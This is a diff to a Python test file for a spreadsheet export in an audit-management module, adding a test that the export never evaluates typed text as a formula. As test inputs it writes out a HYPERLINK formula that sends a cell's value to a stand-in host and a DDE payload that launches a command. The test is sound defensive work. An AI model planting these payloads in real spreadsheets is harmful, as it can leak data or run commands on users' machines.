@@ -24,6 +24,7 @@ class TestAuditReport(AuditCommon):
             ],
         )
         cls.audit.action_load_checklist()
+        cls.audit.state = "in_progress"
         lines = cls.audit.checklist_line_ids
         unit_lines = lines.filtered(lambda line: line.department_id == cls.department_unit)
         legal_lines = lines - unit_lines
@@ -92,3 +93,26 @@ class TestAuditReport(AuditCommon):
         )
         checklist = workbook[workbook.sheetnames[2]]
         self.assertEqual(len(list(checklist.iter_rows(min_row=2, values_only=True))), 4)
+
+    def test_excel_never_evaluates_text_as_formula(self):
+        """A finding or a question typed as a formula is exported as the text typed."""
+        formula = '=HYPERLINK("http://example.com/x?"&A1,"Bấm vào đây")'
+        finding = self.audit.finding_ids[:1]
+        finding.with_user(self.auditor2_user).write({"description": formula})
+        line = self.audit.checklist_line_ids[:1]
+        line.with_user(self.auditor2_user).write({"evidence": "+cmd|' /C calc'!A0"})
+        data = self.env["qms.audit.report.xlsx"]._qms_build(self.audit)
+        workbook = openpyxl.load_workbook(io.BytesIO(data))
+        cells = [
+            cell
+            for sheet in workbook.worksheets
+            for row in sheet.iter_rows()
+            for cell in row
+            if cell.value is not None
+        ]
+        self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"])
+        texts = {cell.value for cell in cells if cell.data_type == "s"}
+        self.assertIn(formula, texts)
+        self.assertIn("+cmd|' /C calc'!A0", texts)
+        # numbers stay numbers
+        self.assertTrue([cell for cell in cells if cell.data_type == "n"])
